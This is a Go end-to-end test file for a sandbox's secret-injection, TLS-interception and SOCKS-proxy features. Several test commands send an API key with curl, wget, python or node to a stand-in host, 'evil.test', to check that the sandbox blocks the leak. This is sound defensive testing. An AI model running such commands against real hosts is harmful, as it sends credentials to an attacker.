package e2e

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/hex"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"golang.org/x/sys/unix"

	"github.com/microsandbox-go/microsandbox/internal/leakcheck"
	"github.com/microsandbox-go/microsandbox/internal/testimage"
)

// secureSite is an HTTPS server on every address of a space, for any name, and what it was sent.
type secureSite struct {
	ca      string // the file with the authority of its certificates
	web     *http.Server
	files   files
	private map[string]string // the passwords that hosts ask for

	mu  sync.Mutex
	got map[string]string // by host
}

// secure starts one in the space.
func (s *space) secure() *secureSite {
	s.w.t.Helper()
	site := &secureSite{files: s.files, private: map[string]string{}, ca: filepath.Join(s.w.top, "ca.pem"), got: map[string]string{}}
	site.web = &http.Server{Handler: site, TLSConfig: &tls.Config{GetCertificate: s.w.authority(site.ca)}, ErrorLog: log.New(io.Discard, "", 0)}
	var (
		l   net.Listener
		err error
	)
	s.do(func() { l, err = net.Listen("tcp", "[::]:443") })
	s.w.must(err)
	go func() { _ = site.web.ServeTLS(l, "", "") }()
	s.w.t.Cleanup(func() { _ = site.web.Close() })
	return site
}

// authority writes a new authority into a file, and makes certificates of it for whatever name is asked for.
func (w *world) authority(file string) func(*tls.ClientHelloInfo) (*tls.Certificate, error) {
	w.t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	w.must(err)
	now := time.Now()
	ca := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "e2e"}, NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
	der, err := x509.CreateCertificate(rand.Reader, ca, ca, &key.PublicKey, key)
	w.must(err)
	w.write(file, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})), 0o644)
	return func(h *tls.ClientHelloInfo) (*tls.Certificate, error) {
		leaf := &x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), NotBefore: now.Add(-time.Hour), NotAfter: now.Add(time.Hour),
			DNSNames: []string{h.ServerName}, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
		der, err := x509.CreateCertificate(rand.Reader, leaf, ca, &key.PublicKey, key)
		return &tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, err
	}
}

// ServeHTTP notes what came and answers with the request's protocol.
func (s *secureSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(r.Body)
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s %s\n", r.Method, r.RequestURI, r.Proto)
	_ = r.Header.Write(&b)
	s.mu.Lock()
	s.got[r.Host] += b.String() + string(body) + "\n"
	password, private := s.private[r.Host]
	s.mu.Unlock()
	if _, said, _ := r.BasicAuth(); private && said != password {
		w.Header().Set("WWW-Authenticate", `Basic realm="e2e"`)
		http.Error(w, "who are you?", http.StatusUnauthorized)
		return
	}
	if s.files.serve(w, r) {
		return
	}
	if strings.Contains(r.URL.Path, "/info/refs") {
		w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
		ref := strings.Repeat("1", 40) + " refs/heads/e2e\n"
		fmt.Fprintf(w, "001e# service=git-upload-pack\n0000%04x%s0000", len(ref)+4, ref)
		return
	}
	fmt.Fprintf(w, "hello over %s", r.Proto)
}

// sent returns what a host was sent.
func (s *secureSite) sent(host string) string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.got[host]
}

func init() {
	names["api.good.test."], names["evil.test."] = []string{public4, public6}, []string{public4, public6}
}

// newValue is a value that is found nowhere by chance.
func newValue() string {
	var b [16]byte
	_, _ = rand.Read(b[:])
	return "sk-e2e-" + hex.EncodeToString(b[:])
}

// TestSecretClients has programs of this machine, in a guest, use a secret of which they know nothing but the placeholder.
func TestSecretClients(t *testing.T) {
	if !inPrivate(t) {
		return
	}
	clients := map[string]string{
		"curl":        `curl -sS --fail -H "Authorization: Bearer $API_KEY" https://HOST/curl`,
		"curl 1.1":    `curl -sS --fail --http1.1 -u "me:$API_KEY" https://HOST/curl1`,
		"python":      `python3 -c 'import os,urllib.request as u; print(u.urlopen(u.Request("https://HOST/python", headers={"X-Key": os.environ["API_KEY"]})).read().decode())'`,
		"requests":    `python3 -c 'import os,requests; r = requests.get("https://HOST/requests", headers={"X-Key": os.environ["API_KEY"]}); r.raise_for_status(); print(r.text)'`,
		"node":        `node -e 'require("https").get("https://HOST/node", {headers: {"x-key": process.env.API_KEY}}, r => r.on("data", d => process.stdout.write(d)))'`,
		"node fetch":  `node -e 'fetch("https://HOST/fetch", {headers: {"x-key": process.env.API_KEY}}).then(r => r.text()).then(console.log)'`,
		"git":         `git -c http.extraHeader="Authorization: token $API_KEY" ls-remote https://HOST/repo.git`,
		"wget":        `wget -qO- --header="X-Key: $API_KEY" https://HOST/wget`,
		"openssl":     `printf 'GET /openssl HTTP/1.0\r\nHost: HOST\r\nX-Key: %s\r\n\r\n' "$API_KEY" | openssl s_client -quiet -verify_return_error -connect HOST:443 -servername HOST`,
		"curl upload": `head -c 3000000 /dev/zero | curl -sS --fail -T - -H "X-Key: $API_KEY" https://HOST/upload`,
	}
	each(t, func(w *world) {
		s := w.space()
		site := s.secure()
		value := newValue()
		w.env = append(w.env, "API_KEY="+value)
		script := "export HOME=/tmp\n"
		for name, c := range clients {
			tool := strings.Fields(c)[0]
			if tool == "printf" {
				tool = "openssl"
			}
			for _, host := range []string{"api.good.test", "evil.test"} {
				there := "command -v " + tool
				if name == "requests" {
					there = "python3 -c 'import requests' 2>/dev/null"
				}
				script += fmt.Sprintf("if %s >/dev/null; then out=$( { %s; } 2>&1 ); echo \"%s at %s: $? $out\" | tr '\\n' ' '; echo; else echo '%s at %s: none'; fi\n",
					there, strings.ReplaceAll(c, "HOST", host), name, host, name, host)
			}
		}
		r := s.run("run", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host", "--", "sh", "-c", script)
		if r.code != 0 {
			t.Fatalf("exit code %d: %s %s", r.code, r.out, r.err)
		}
		ran := 0
		for name := range clients {
			good, evil := lineOf(r.out, name+" at api.good.test: "), lineOf(r.out, name+" at evil.test: ")
			if good == "none" {
				t.Logf("%s is not on this machine", name)
				continue
			}
			ran++
			if !strings.HasPrefix(good, "0 ") || !strings.Contains(good, "hello over") && !strings.Contains(good, "refs/heads/e2e") {
				t.Errorf("%s: %q", name, good)
			}
			if strings.Contains(evil, "hello over") || strings.Contains(evil, "refs/heads") {
				t.Errorf("%s sent the placeholder to another host: %q", name, evil)
			}
			path := strings.SplitN(strings.SplitN(clients[name], "HOST/", 2)[len(strings.SplitN(clients[name], "HOST/", 2))-1], "\"", 2)[0]
			if name != "openssl" && !strings.Contains(site.sent("api.good.test"), strings.Fields(path)[0]) {
				t.Errorf("%s: its request did not come", name)
			}
		}
		if ran < 3 {
			t.Errorf("only %d clients are on this machine", ran)
		}
		if n := strings.Count(site.sent("api.good.test"), value); n < ran-1 { // curl 1.1 sends it in base64
			t.Errorf("the value came %d times, of %d clients", n, ran)
		}
		if got := site.sent("evil.test"); got != "" {
			t.Errorf("the other host was sent %q", got)
		}
		if strings.Contains(r.out+r.err, value) {
			t.Error("the guest has seen the value")
		}
	})
}

func lineOf(out, prefix string) string {
	for l := range strings.SplitSeq(out, "\n") {
		if rest, ok := strings.CutPrefix(l, prefix); ok {
			return strings.TrimSpace(rest)
		}
	}
	return "missing"
}

// TestSecretIsNowhere looks for a value that is in use everywhere but in the one process that must have it.
func TestSecretIsNowhere(t *testing.T) {
	if !inPrivate(t) {
		return
	}
	each(t, func(w *world) {
		s := w.space()
		site := s.secure()
		value := newValue() + "/+&" // which is written otherwise in URLs
		forms := leakcheck.Forms(value)
		w.env = append(w.env, "API_KEY="+value)
		w.t.Cleanup(func() { s.run("rm", "-f", "-q", "keeper") })
		if r := s.run("run", "-d", "-q", "--name", "keeper", "--log-level", "trace", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host"); r.code != 0 {
			t.Fatalf("%d %s", r.code, r.err)
		}
		w.env = w.env[:len(w.env)-1] // no command needs it from here on
		use := `curl -sS -o /dev/null -u "me:$API_KEY" https://api.good.test/; curl -sS -o /tmp/out -H "X-Key: $API_KEY" https://api.good.test/; curl -sS -o /tmp/out2 -H "X-Key: $API_KEY" https://evil.test/; cat /tmp/out /tmp/out2; env > /tmp/env`
		if r := s.run("exec", "keeper", "--", "sh", "-c", use); r.code != 0 || !strings.Contains(r.out, "hello over") || !strings.Contains(r.out, "denied by policy: secret API_KEY may not go to evil.test") {
			t.Fatalf("%d %s %s", r.code, r.out, r.err)
		}
		if got := site.sent("api.good.test"); !strings.Contains(got, value) || !strings.Contains(got, base64.StdEncoding.EncodeToString([]byte("me:"+value))) {
			t.Fatal("the value was not used")
		}
		// In the guest: its files, its processes' arguments and environments. The pattern is not in the command.
		look := fmt.Sprintf(`p='%s[%s]%s'; grep -rls -- "$p" /etc /tmp /root /var /home /run /.msb /dev/shm; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | grep -c -a -- "$p"; grep -c MSB_API_KEY /tmp/env`, value[:12], value[12:13], value[13:])
		if r := s.run("exec", "keeper", "--", "sh", "-c", look); strings.TrimSpace(r.out) != "0\n1" {
			t.Errorf("in the guest: %q %q", r.out, r.err)
		}
		if r := s.run("inspect", "keeper", "--format", "json"); strings.Contains(r.out, value) || !strings.Contains(r.out, "$MSB_API_KEY") {
			t.Errorf("inspect: %s", r.out)
		}
		for _, pid := range pids() {
			for _, f := range []string{"cmdline", "environ"} {
				if b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/%s", pid, f)); bytes.Contains(b, []byte(value)) {
					t.Errorf("it is in the %s of process %d", f, pid)
				}
			}
		}
		runner := w.runner("keeper")
		var read int64
		seen := false
		const held = "X-Key: $MSB_API_KEY"
		for _, pid := range append(descendants(runner), runner) {
			fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", pid))
			for _, fd := range fds {
				if to, _ := os.Readlink(fmt.Sprintf("/proc/%d/fd/%s", pid, fd.Name())); strings.Contains(to, "msb-config") {
					t.Errorf("process %d has the launch config open", pid)
				}
			}
			limits, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", pid))
			if errors.Is(err, fs.ErrNotExist) { // of a command that has ended
				continue
			}
			w.must(err)
			if l := lineOf(string(limits), "Max core file size"); !strings.HasPrefix(l, "1 ") && !strings.HasPrefix(l, "0 ") {
				t.Errorf("process %d may dump core: %q", pid, l)
			}
			found, err := leakcheck.SearchMemory(pid, append(forms, held)...)
			w.must(err)
			read += found.Bytes
			if found.Has(held) && pid != runner {
				seen = true // so that it is known that what is in a guest is found
			}
			if found.Has(forms...) != (pid == runner) {
				t.Errorf("memory of process %d (the runner is %d): %v, of %d bytes", pid, runner, found.Texts, found.Bytes)
			}
		}
		if read < 64<<20 || !seen {
			t.Errorf("only %d bytes of memory could be read, the placeholder among them: %v", read, seen)
		}
		w.nowhereIn(value, w.home, "/dev/shm")
		if r := s.run("stop", "-q", "keeper"); r.code != 0 {
			t.Errorf("stop: %s", r.err)
		}
		w.nowhereIn(value, w.home, "/dev/shm")

		// The runner aborts with the value in its memory: it writes no core, and what it prints is without it.
		w.env = append(w.env, "API_KEY="+value)
		if r := s.run("start", "-q", "keeper"); r.code != 0 {
			t.Fatalf("start: %s", r.err)
		}
		w.env = w.env[:len(w.env)-1]
		if r := s.run("exec", "keeper", "--", "curl", "-sS", "-o", "/dev/null", "-H", held, "https://api.good.test/"); r.code != 0 {
			t.Fatalf("%d %s %s", r.code, r.out, r.err)
		}
		runner = w.runner("keeper")
		cores, err := os.Readlink(fmt.Sprintf("/proc/%d/cwd", runner))
		w.must(err)
		if pattern, err := os.ReadFile("/proc/sys/kernel/core_pattern"); err == nil && pattern[0] == '/' {
			cores = filepath.Dir(string(pattern))
		}
		before, _ := os.ReadDir(cores)
		w.must(unix.Kill(runner, unix.SIGABRT))
		if !until(10*time.Second, func() bool { return unix.Kill(runner, 0) != nil }) {
			t.Fatal("the runner is still there")
		}
		after, _ := os.ReadDir(cores)
		for _, f := range after {
			if strings.Contains(f.Name(), "core") && !slices.ContainsFunc(before, func(b os.DirEntry) bool { return b.Name() == f.Name() }) {
				t.Errorf("there is a %s in %s", f.Name(), cores)
			}
		}
		w.nowhereIn(value, w.home, "/dev/shm")
	})
}

// nowhereIn looks for a value, in any of its forms, in every file below directories.
func (w *world) nowhereIn(value string, dirs ...string) {
	w.t.Helper()
	forms := leakcheck.Forms(value)
	for _, dir := range dirs {
		_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() {
				return nil
			}
			f, err := os.Open(path)
			if err != nil {
				return nil
			}
			defer f.Close()
			var found leakcheck.Found
			if found.Search(f, forms...); found.Has(forms...) {
				w.t.Errorf("it is in the file %s", path)
			}
			return nil
		})
	}
}

func TestSecretViolationEnds(t *testing.T) {
	if !inPrivate(t) {
		return
	}
	each(t, func(w *world) {
		s := w.space()
		site := s.secure()
		w.env = append(w.env, "API_KEY="+newValue())
		begin := time.Now()
		r := s.run("run", "--secret", "API_KEY@api.good.test", "--on-secret-violation", "block-and-terminate", "--tls-upstream-ca-cert", site.ca, "host", "--",
			"sh", "-c", `curl -sS -H "X-Key: $API_KEY" https://evil.test/; sleep 100`)
		if r.code == 0 || time.Since(begin) > 50*time.Second || !strings.Contains(r.err, "secret API_KEY may not go to evil.test") {
			t.Errorf("%d %q %q", r.code, r.out, r.err)
		}
		if got := site.sent("evil.test"); got != "" {
			t.Errorf("the other host was sent %q", got)
		}
	})
}

// TestSecretOfKept has a sandbox that is kept use the value that there is when it starts.
func TestSecretOfKept(t *testing.T) {
	if !inPrivate(t) {
		return
	}
	each(t, func(w *world) {
		s := w.space()
		site := s.secure()
		w.t.Cleanup(func() { s.run("rm", "-f", "-q", "kept") })
		if r := s.run("create", "-q", "--name", "kept", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host"); r.code == 0 ||
			!strings.Contains(r.err, "environment variable API_KEY") {
			t.Fatalf("without a value: %d %s", r.code, r.err)
		}
		for i := range 2 {
			value := newValue()
			w.env = append(w.env, "API_KEY="+value)
			what := []string{"start", "-q", "kept"}
			if i == 0 {
				what = []string{"create", "-q", "--name", "kept", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host"}
			}
			if r := s.run(what...); r.code != 0 {
				t.Fatalf("%s: %s", what[0], r.err)
			}
			w.env = w.env[:len(w.env)-1]
			r := s.run("exec", "kept", "--", "sh", "-c", `curl -sS -H "X-Key: $API_KEY" https://api.good.test/; grep -c BEGIN /.msb/tls/ca.pem; grep -cF "$(sed -n 2p /.msb/tls/ca.pem)" /etc/ssl/certs/ca-certificates.crt`)
			if r.code != 0 || !strings.HasSuffix(strings.TrimSpace(r.out), "1\n1") || !strings.Contains(site.sent("api.good.test"), value) {
				t.Errorf("time %d: %d %q %q", i, r.code, r.out, r.err)
			}
			if r := s.run("stop", "-q", "kept"); r.code != 0 {
				t.Errorf("stop: %s", r.err)
			}
			w.nowhereIn(value, w.home)
		}
	})
}

// TestInterceptAndTrust looks into TLS without any secret, and lets guests trust what this machine does.
func TestInterceptAndTrust(t *testing.T) {
	if !inPrivate(t) {
		return
	}
	each(t, func(w *world) {
		s := w.space()
		site := s.secure()
		issuer := `openssl s_client -connect api.good.test:443 -servername api.good.test </dev/null 2>/dev/null | openssl x509 -noout -issuer`
		for what, x := range map[string]struct {
			flags  []string
			issuer string
		}{
			"not looked into":  {nil, "e2e"},
			"looked into":      {[]string{"--tls-intercept", "--tls-upstream-ca-cert", site.ca}, "microsandbox CA"},
			"for this host":    {[]string{"--tls-intercept", "--tls-upstream-ca-cert-for", "*.good.test=" + site.ca}, "microsandbox CA"},
			"for another host": {[]string{"--tls-intercept", "--tls-upstream-ca-cert-for", "*.bad.test=" + site.ca}, ""},
			"without proof":    {[]string{"--tls-intercept", "--tls-no-verify-upstream-for", "api.good.test"}, "microsandbox CA"},
			"another port":     {[]string{"--tls-intercept-port", "8443"}, "e2e"},
			"let pass":         {[]string{"--tls-intercept", "--tls-bypass", "*.good.test"}, "e2e"},
		} {
			r := s.run(append(append([]string{"run"}, x.flags...), "host", "--", "sh", "-c", issuer)...)
			if (x.issuer == "") != (r.out == "") || !strings.Contains(r.out, x.issuer) {
				t.Errorf("%s: the issuer is %q, want %q; %s", what, r.out, x.issuer, r.err)
			}
		}
		r := s.run("run", "--trust-host-cas", "host", "--", "sh", "-c", `grep -c BEGIN "$SSL_CERT_FILE"; test -s /.msb/tls/ca.pem && echo yes`)
		if n, err := strconv.Atoi(strings.Fields(r.out + " x")[0]); err != nil || n < 10 || !strings.Contains(r.out, "yes") {
			t.Errorf("what this machine trusts: %q %q", r.out, r.err)
		}
	})
}

// socks starts a SOCKS5 server in the space that leads to where it is asked to, and returns what it was asked for.
func (s *space) socks(address, user, password string) func() []string {
	s.w.t.Helper()
	var l net.Listener
	var err error
	s.do(func() { l, err = net.Listen("tcp", address) })
	s.w.must(err)
	var mu sync.Mutex
	var asked []string
	serve := func(c net.Conn) {
		defer c.Close()
		take := func(n int) []byte {
			b := make([]byte, n)
			_, _ = io.ReadFull(c, b)
			return b
		}
		_ = take(int(take(2)[1]))
		_, _ = c.Write([]byte{5, 2})
		u := string(take(int(take(2)[1])))
		p := string(take(int(take(1)[0])))
		if u != user || p != password {
			_, _ = c.Write([]byte{1, 1})
			return
		}
		_, _ = c.Write([]byte{1, 0})
		if head := take(4); head[3] != 1 {
			return
		}
		b := take(6)
		to := net.JoinHostPort(net.IP(b[:4]).String(), itoa(uint16(b[4])<<8|uint16(b[5])))
		mu.Lock()
		asked = append(asked, to)
		mu.Unlock()
		var out net.Conn
		s.do(func() { out, err = net.Dial("tcp", to) })
		if err != nil {
			_, _ = c.Write([]byte{5, 5, 0, 1, 0, 0, 0, 0, 0, 0})
			return
		}
		defer out.Close()
		_, _ = c.Write([]byte{5, 0, 0, 1, 0, 0, 0, 0, 0, 0})
		go func() { _, _ = io.Copy(out, c) }()
		_, _ = io.Copy(c, out)
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go serve(c)
		}
	}()
	s.w.t.Cleanup(func() { _ = l.Close() })
	return func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), asked...)
	}
}

// TestProxy has connections go through a SOCKS server, with interception, and nothing else go anywhere.
func TestProxy(t *testing.T) {
	if !inPrivate(t) {
		return
	}
	each(t, func(w *world) {
		s := w.space()
		site := s.secure()
		asked := s.socks("127.0.0.1:1080", "me", "hunter2-of-e2e")
		w.env = append(w.env, "SOCKS_PASSWORD=hunter2-of-e2e", "API_KEY="+newValue())
		flags := []string{"run", "--proxy", "socks5://127.0.0.1:1080", "--socks5-username", "me", "--socks5-password-env", "SOCKS_PASSWORD",
			"--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, "host", "--", "sh", "-c"}
		r := s.run(append(flags, `curl -4 -sS -H "X: $API_KEY" https://api.good.test/; echo; echo hello | python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect(("`+public4+`", 7)); s.send(b"x"); print(s.recv(9))' 2>&1 | tail -1`)...)
		if !strings.Contains(r.out, "hello over") || strings.Contains(r.out, "echo x") {
			t.Errorf("%d %q %q", r.code, r.out, r.err)
		}
		if got := asked(); len(got) != 1 || got[0] != public4+":443" {
			t.Errorf("the server was asked for %q", got)
		}
		if !strings.Contains(site.sent("api.good.test"), w.env[len(w.env)-1][len("API_KEY="):]) {
			t.Error("the value was not sent")
		}
		w.env = append(w.env, "SOCKS_PASSWORD=wrong")
		if r := s.run(append(flags, `curl -4 -sS -m 5 https://api.good.test/`)...); r.code == 0 || strings.Contains(r.out+r.err, "wrong") {
			t.Errorf("with another password: %d %q %q", r.code, r.out, r.err)
		}
	})
}

// TestSecretInImages has programs of images, which trust nobody or only what they brought, trust the sandbox's authority.
func TestSecretInImages(t *testing.T) {
	const python = `import os, ssl, urllib.request as u
r = u.Request("https://api.good.test/python", headers={"X-Key": os.environ["API_KEY"]})
print(u.urlopen(r).read().decode())
for v in ["SSL_CERT_FILE"]: os.environ.pop(v, None)
print(u.urlopen(u.Request("https://api.good.test/python2", headers={"X-Key": os.environ["API_KEY"]}), context=ssl.create_default_context(cafile="/etc/ssl/certs/ca-certificates.crt")).read().decode())`
	const requests = `import os, requests
key, host = os.environ["API_KEY"], "https://api.good.test/"
print(requests.get(host, headers={"X-Key": key}).text)
s = requests.Session()
s.headers["Authorization"] = "Bearer " + key
for _ in range(2): print(s.post(host, json={"a": "b"}).text)
bad = requests.get("https://evil.test/", headers={"X-Key": key})
assert bad.status_code == 403 and "secret API_KEY may not go to evil.test" in bad.text, bad.text`
	const node = `require("https").get("https://api.good.test/node", {headers: {"x-key": process.env.API_KEY}}, r => r.on("data", d => process.stdout.write(d)))`
	tests := map[string]struct {
		image   func(testing.TB) v1.Image
		command []string
		times   int
	}{
		"python":   {testimage.Python, []string{"python3", "-c", python}, 2},
		"requests": {testimage.Requests, []string{"python3", "-c", requests}, 3},
		"node":     {testimage.Node, []string{"node", "-e", node}, 1},
	}
	images := map[string]v1.Image{}
	for name, x := range tests {
		images[name] = x.image(t) // out here there is a network to make it
	}
	if !inPrivate(t) {
		return
	}
	for name, x := range tests {
		t.Run(name, func(t *testing.T) {
			each(t, func(w *world) {
				ref := testimage.Serve(w.t, testimage.Options{}).Push(w.t, name, images[name])
				w.ok("pull", "-q", ref)
				s := w.space()
				site := s.secure()
				value := newValue()
				w.env = append(w.env, "API_KEY="+value)
				r := s.run(append([]string{"run", "-q", "--pull", "never", "--secret", "API_KEY@api.good.test", "--tls-upstream-ca-cert", site.ca, ref, "--"}, x.command...)...)
				if n := strings.Count(r.out, "hello over"); r.code != 0 || n != x.times {
					w.t.Errorf("%d %q %q", r.code, r.out, r.err)
				}
				if n := strings.Count(site.sent("api.good.test"), value); n != x.times {
					w.t.Errorf("the value came %d times", n)
				}
				if got := site.sent("evil.test"); got != "" {
					w.t.Errorf("the other host was sent %q", got)
				}
			})
		})
	}
}
